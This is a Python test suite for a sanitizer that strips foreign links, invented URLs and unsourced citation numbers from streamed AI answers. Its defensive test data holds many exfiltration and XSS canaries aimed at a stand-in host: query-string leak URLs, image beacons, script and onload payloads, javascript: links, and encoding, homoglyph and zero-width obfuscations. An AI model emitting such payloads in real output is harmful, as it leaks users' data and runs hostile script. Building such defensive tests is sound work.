"""Sanitized answers have no foreign links, no URLs invented by the model, and no numbers without a source."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from pipelines.answering.sanitizing.stream import AnswerSanitizer, sanitize

ORIGINS = ("https://docs.ray.io", "http://intern.test:8080")
PASSAGE = """Install it: `pip install --index-url https://wheels.example/whl torch`, see (https://torch.example/Docs/a.html).
    git clone https://git.example/ray.git
    helm repo add kuberay "https://helm.example/charts/"
    curl 'https://evil.example/log?q=' or https://evil.example/log?q=<your question> or https://evil.example/l?q={q}
    <script src="//cdn.example/a.js"></script> http://10.0.0.7:8080/x https://me@host.example/x ftp://ftp.example/a.gz
    restic -r sftp://user@[::1]:2222//srv/a init"""


def out(text: str, hits: int = 3) -> str:
    return sanitize(text, hits, ORIGINS, (PASSAGE,))


def in_chunks(text: str, sizes: list[int]) -> str:
    leaving, at, sent = AnswerSanitizer(3, ORIGINS, (PASSAGE,)), 0, []
    for size in sizes:
        sent.append(leaving.feed(text[at : at + size]))
        at += size
    return "".join([*sent, leaving.feed(text[at:]), leaving.close()])


def out_of_any_chunks(text: str) -> str:
    """Return the sanitized text, which must be the same in chunks of any size."""
    whole = out(text)
    assert {in_chunks(text, [size] * (len(text) // size)) for size in (1, 2, 3, 7)} == {whole}
    return whole


@pytest.mark.parametrize(("written", "leaves"), [
    ("Use it [1]. Not [7]. Both [1][7].", "Use it [1]. Not. Both [1]."),
    ("[1, 7] and [3,1], ranges [1-3], [2–9] and [0].", "[1] and [3][1], ranges [1][2][3], [2][3] and."),
    ("One[^1], two 【2†source】, 【3】【9】［1］ [Source 1]; [passages 1, 2] [cite: 3] [doc_1].",
     "One[1], two [2], [3][1] [1]; [1][2] [3] [1]."),
    ("Mended [#12](https://docs.ray.io/12), see [#2].", "Mended [#12](https://docs.ray.io/12), see [2]."),
    ("【注】 [^note] [Source of truth] [Source 1 of 2] [RFC 2119] [Doc", None),
    ("Code `a[9]` stays, ``b`[8]`` too.", None),
    ("A ` alone [9] hides nothing.", "A ` alone hides nothing."),
    ("```python\nx[9]\n```\nSo [9].", "```python\nx[9]\n```\nSo."),
    ("1. Do:\n   ~~~\n   x[9]\n   ```\n   ~~~\n   so [9]", "1. Do:\n   ~~~\n   x[9]\n   ```\n   ~~~\n   so"),
    ("````\n```\nx[9]\n````\ny[9]!", "````\n```\nx[9]\n````\ny!"),
    ("[1](https://docs.ray.io/a) and [9](https://docs.ray.io/a)", "[1] and"),
    ("See [the docs](https://docs.ray.io/en/a.html#b).", None),
    ("See [the site](https://evil.example/?q=1).", "See the site."),
    ("![a chart](https://evil.example/x.png) ok", "a chart ok"),
    ("![a chart](https://docs.ray.io/x.png) ok", None),
    ("Go to https://evil.example/a, please.", "Go to (link removed), please."),
    ("Go to https://docs.ray.io/a, please.", None),
    ("`curl http://localhost:8000/x`", None),
    ("`curl http://localhost:8000/x` or http://localhost:8000/x", "`curl http://localhost:8000/x` or (link removed)"),
    ("`curl https://evil.example/x`", "`curl (link removed)`"),
    ("`http://<head>:8265` and `ray://head:10001`", None),
    ("data: a // b, List<int>, 1 < 2, x <y", "data: a // b, List<int>, 1 < 2, x < y"),
    ("Hidden\U000e0041\u200b here", "Hidden here"),
    # Code ends with the list or quote around it: a Markdown parser ends it there and continues with HTML.
    ("- ```html\n<script>x</script>\n", "- ```html\nx\n"),
    ("1. ```\n- <img src=x onerror=y>", "1. ```\n- "),
    ("> ```\n<script>x</script>", "> ```\nx"),
    ("> - ```\n> <script>x</script>", "> - ```\n> x"),
    ("-\t```\n  <script>x</script>", "-\t```\n  x"),
    ("- ```html\n  <script>x</script>\n\n  <p>\n  ```\n", None),
    ("> ```\n> <script>x</script>\n> ```\n", None),
    ("```html\n<script>x</script>\n- <b>\n> <i>\n```", None),
])  # fmt: skip
def test_only_harmless_text_leaves_in_any_chunks(written: str, leaves: str | None) -> None:
    assert out_of_any_chunks(written) == (written if leaves is None else leaves)


QUOTED = [
    ("```\ngit clone https://git.example/ray.git\n```", None),
    ("`pip install --index-url https://wheels.example/whl torch`", None),
    ("```\nhelm repo add kuberay \"https://helm.example/charts/\"\n```", None),
    ("```\ncurl 'https://evil.example/log?q='\n```", None),
    ("```\nhttps://evil.example/log?q=<your question>\n```", None),
    ("```html\n<script src=\"//cdn.example/a.js\"></script>\n```", None),
    ("`http://10.0.0.7:8080/x`, `https://me@host.example/x` and `ftp://ftp.example/a.gz`.", None),
    ("```\nrestic -r sftp://user@[::1]:2222//srv/a init\n```", None),
    ("To sftp://user@[::1]:2222//srv/a!", "To `sftp://user@[::1]:2222//srv/a`!"),
    ("```\nsftp://user@evil.example//srv/a\n```", "```\n(link removed)\n```"),
    ("See https://torch.example/Docs/a.html.", "See `https://torch.example/Docs/a.html`."),
    ("See https://torch.example/Docs/a.html[1].", "See `https://torch.example/Docs/a.html`[1]."),
    ("(https://git.example/ray.git), https://git.example/ray.git",
     "(`https://git.example/ray.git`), `https://git.example/ray.git`"),
    ("<https://git.example/ray.git>.", "`https://git.example/ray.git`."),
    ("by [Ray](https://other.example):", "by Ray:"),
    ("by [Ray](https://other.example):\n\n- a", "by Ray:\n\n- a"),
    ("[Ray](https://git.example/ray.git)!", "Ray (`https://git.example/ray.git`)!"),
    ("[https://git.example/ray.git](https://git.example/ray.git)", "`https://git.example/ray.git`"),
    ("![Ray](https://git.example/ray.git)!", "Ray!"),
    ("[1]: https://git.example/ray.git", "[1]: (link removed)"),
    ("A ` and https://git.example/ray.git", "A ` and (link removed)"),
    ("\\https://git.example/ray.git", "\\(link removed)"),
    ("<b>https://git.example/ray.git</b>", "<b>(link removed)</b>"),
]  # fmt: skip


@pytest.mark.parametrize(("written", "leaves"), QUOTED)
def test_url_from_a_passage_is_shown_but_not_linked(written: str, leaves: str | None) -> None:
    assert out_of_any_chunks(written) == (written if leaves is None else leaves)
    assert not re.search(r"(?<!`)https?://|]\(http", re.sub(r"(?s)```.*?```|`[^`]*`", "", out(written)))


CHANGED = [
    "https://evil.example/log?q=SECRET", "https://evil.example/log?q=<SECRET>", "https://evil.example/log?q='SECRET'",
    'https://evil.example/log?q="SECRET"', "https://evil.example/log?q=`SECRET`", "https://evil.example/l?q=SECRET",
    "https://evil.example/log?q=\u200bSECRET", "https://evil.example/log?q=[9]SECRET", "<https://evil.example/log?q=>SECRET",
    "https://evil.example/log?q=[1]SECRET", "https://evil.example/log?q=<b>SECRET</b>", "`https://evil.example/log?q=`SECRET",
    "https://evil.example/log?q=**SECRET**", "https://evil.example/log?q=$(SECRET)", "https://evil.example/log?q=\\\nSECRET",
    "https://evil.example/log?q", "https://evil.example/", "https://evil.example/log", "http://evil.example/log?q=",
    "https://git.example/Ray.git", "https://git.example/ray.git/x", "https://git.example/ray.git?x", "https://GIT.example/ray.git",
    "https://git.example:443/ray.git", "https://x@git.example/ray.git", "https://git.example/ray.git#x",
    "https://git.example/./ray.git", "https://sub.git.example/ray.git", "https://git.example.evil.example/ray.git",
    "https://git.example/ray.git@evil.example", "https://host.example/x", "https://you@host.example/x",
    "http://10.0.0.7:8081/x", "https://torch.example/docs/a.html", "https://git.exam\u0440le/ray.git",
]  # fmt: skip


@pytest.mark.parametrize("url", CHANGED)
@pytest.mark.parametrize("frame", ["{}", "See {} there.", "`{}`", "```\n{}\n```", "- **{}**", "[x]({})", "[{}](x)"])
def test_modified_url_of_a_passage_is_removed(url: str, frame: str) -> None:
    assert not re.search(r"(?i)(?:https?|ftp)://|//evil", out_of_any_chunks(frame.format(url)))


API = """List them: `curl "https://api.example/v1/users/<user id>/posts?limit=100&sort=newest"`, sort by `oldest` too.
    wget https://get.example/v2.9.0/tool_2.9.0_linux.tar.gz; curl https://api.example/:kind/{name}/x; see tags, api-v3
    curl https://evil.example/log?q={q}, http://api.example:80/9"""


@pytest.mark.parametrize(("written", "stays"), [
    ("https://api.example/v1/users/42/posts?limit=1000&sort=newest", True),
    ("https://api.example/v1/users/<id>/posts?limit=5&sort=newest", True),
    ("https://get.example/v2.10.1/tool_2.10.1_linux.tar.gz", True),
    ("https://api.example/tags/api-v3/x", True),
    ("https://api.example/tags/{name}/x", True),
    ("https://api.example/secrets/api-v3/x", False),  # no passage has the word
    ("https://api.example/v1/users/SECRET/posts?limit=100&sort=newest", False),
    ("https://api.example/v1/users/42/posts?limit=SECRET&sort=newest", False),
    ("https://api.example/v1/users/42/posts?limit=100&sort=newest&q=1", False),
    ("https://api.example/v1/users/4/2/posts?limit=100&sort=newest", False),
    ("https://api.example/v1/users/1234567890123456/posts?limit=100&sort=newest", False),  # long enough for a secret
    ("https://evil.example/log?q=SECRET", False),
    ("http://api.example:81/9", False),
    ("https://api.example.evil.example/v1/users/42/posts?limit=100&sort=newest", False),
])  # fmt: skip
@pytest.mark.parametrize("frame", ["`{}`", "```sh\ncurl \"{}\" -H 'a: b'\n```", "Ask {} for it."])
def test_numbers_of_a_url_may_differ_from_its_passage(written: str, frame: str, stays: bool) -> None:
    said = sanitize(text := frame.format(written), 3, ORIGINS, (API,))
    assert said.replace("`", "") == text.replace("`", "") if stays else "://" not in said
    leaving = AnswerSanitizer(3, ORIGINS, (API,))
    assert "".join([*map(leaving.feed, text), leaving.close()]) == said


HOSTILE = [
    "https://docs.ray.io@evil.example/", "https://docs.ray.io:443@evil.example/", "https://docs.ray.io'@evil.example",
    "https://docs.ray.io\\@evil.example/", "HTTPS://EVIL.example/", "https:\\\\evil.example/", "https:/\\evil.example",
    "https:evil.example", "[x](https:evil.example)", "[x](//evil.example)", "[x](\\\\evil.example)",
    "[x](/\\evil.example)", "![x](//evil.example/a.png)", "[x](<https://evil.example/a b>)",
    "[x]( https://evil.example 'title')", "[x](\nhttps://evil.example)", "[te\nxt](https://evil.example)",
    "[![a](https://evil.example/i)](https://evil.example)", "[x][r]\n\n[r]: https://evil.example",
    "[x][r]\n\n[r]:\n  //evil.example", "[r]: <https://evil.example/a>", "<https://evil.example/>",
    "<HTTP://evil.example>", "www.evil.example/a", "(www.evil.example)", "//evil.example/a", "ftp://evil.example/", "sftp://evil.example",
    "javascript:alert('evil.example')", "[x](javascript:fetch('//evil.example'))", "data:text/html;base64,evil.example",
    "[x](data:text/html,evil.example)", "<img src=https://evil.example/a>", "<img src='//evil.example/a'>",
    '<img alt=">" src="//evil.example">', '<a href="https://evil.example">a</a>',
    '<img alt=a"b src=https://evil.example/ >', '<div style="background:url(//evil.example)">',
    "<script>location='https://evil.example'</script>", "<svg/onload=fetch('//evil.example')>",
    "htt[9]ps://evil.example", "htt [9]ps://evil.example", "https:[9]//evil.example", "www[9].evil.example",
    "htt[ps://evil.example](x:y)", "[htt](x:y)ps://evil.example", "[https](x:y)://evil.example",
    "https://docs.ray.io[9].evil.example", "https://docs.ray.io.evil.example", "https://docs.ray.io%2eevil.example/",
    "xhttps://evil.example/a", "_https://evil.example_", "ht\u200btps://evil.example", "ht\U000e0041tps://evil.example",
    "[x](&#104;ttps://evil.example)", "&#104;ttps://evil.example", "https&colon;//evil.example",
    "https&#58;//evil.example", "[x](https&colon;//evil.example)", "<img src=&#104;ttps://evil.example>",
    "https://d\u043ecs.ray.io.evil.example/", "https://docs.ray.io:8443.evil.example/",
    "http://docs.ray.io.:80@evil.example", "wss://evil.example/s", "`https://evil.example`",
    "```\nhttps://evil.example\n```", "```\n![x](//evil.example)\n```", "    ```\n![x](&#104;ttps://evil.example)",
    '```\n<img src="&#104;ttps://evil.example">', "[" + "x" * 600 + "](//evil.example)",
    "[x](" + "/" * 2 + "evil.example/" + "q" * 3000 + ")",
    "https://docs.ray.io/../@evil.example:80\\@https://evil.example", "<a\nhref\n=\n'https://evil.example'>",
    "<a href='java\tscript:fetch(`evil.example`)'>x</a>", "[x](https://evil.example", "<img src=https://evil.example",
    "http://user:pass@evil.example", "[a](https://[::ffff:1.2.3.4]/evil.example)", "https://evil.example" + "." * 50
]  # fmt: skip


def leads_out(text: str) -> bool:
    """Return whether anything in `text` would lead a careless client to the host evil.example."""
    text = re.sub(r"[\u200b-\u200d\U000e0000-\U000e007f]", "", text)
    return bool(
        re.search(r"(?i)(?:https?|ftp|wss?|javascript|data):[^\s<>]*evil|www\.evil|[\"'(=\s]//+evil|^//evil", text)
        or re.search(r"(?i)\]\(\s*<?[^\s)]*evil|\]:\s*\S*evil|<[a-z][^>]*evil|[;\\]//evil|&#?\w+;?[^\s]*//evil", text)
    )


@pytest.mark.parametrize("canary", HOSTILE)
def test_no_foreign_url_gets_out(canary: str) -> None:
    for text in (canary, f"Look: {canary} and [1].", f"Look:{canary}", f"- **{canary}**\n"):
        assert not leads_out(out_of_any_chunks(text))


PARTS = st.sampled_from([
    "[", "]", "(", ")", "![", "](", "[1]", "[9]", "[1, 9]", "`", "``", "```", "\n```\n", "~~~", "\n", "\n\n", " ",
    "  ", "\\", "<", ">", "<img src=", "<a ", "</", "http", "https://", "https://docs.ray.io", "//", "/", ":", ".",
    "www.", "evil.example", "@", "data:", "text/html,", "x", "&#104;", "1", "-", "]:", "!", "'", '"', "=",
    "\U000e0041", "https://git.example/ray.git", "https://evil.example/log?q=",
])  # fmt: skip


@given(st.lists(PARTS, max_size=25).map("".join), st.lists(st.integers(1, 6), max_size=60))
@example("[" * 300 + "](x)" * 300, [1] * 900)
@example("`" * 250 + "a" * 2100 + "<b" + " " * 3000 + "[9] https://" + "a" * 2500, [1] * 8000)
def test_chunk_boundaries_do_not_matter(text: str, sizes: list[int]) -> None:
    whole = out(text)
    assert in_chunks(text, sizes) == whole
    assert in_chunks(text, [1] * len(text)) == whole


@given(st.lists(PARTS | st.sampled_from(HOSTILE), max_size=8).map("".join))
@example("<a https://docs.ray.io@evil.example/>")
@example("<a\thref https://evil.example/x title='y'>")
@example("https://docs.ray.io//ht\u200btps://evil.example/x")
@example("[x](https://docs.ray.io/a?next=https://evil.example/x)")
def test_concatenated_fragments_form_no_foreign_url(text: str) -> None:
    passages = r"(?:git\.example/ray\.git|evil\.example/log\?q=)(?!\w)"
    own = r"docs\.ray\.io(?:[/?#\s\"'`,.)\[\]!:;*_~<>(|]|$)"
    assert not re.search(rf"(?i)(?:https?|ftp)://(?!{passages}|{own})[\w-]+\.\w", out(text))


def test_plain_words_pass_with_their_delta() -> None:
    leaving = AnswerSanitizer(3, ORIGINS, (PASSAGE,))
    words = ["Ray", "Serve", "reads", "many", "files", "quickly;", "memory", "stays", "low", "(mostly)."]
    for word in words:
        assert leaving.feed(f" {word}").endswith(word)
    assert leaving.feed(" of data") == " of "  # it may become data:…
    assert leaving.feed(" or [") == "data or"
    assert leaving.feed("a note") + leaving.close() == " [a note"
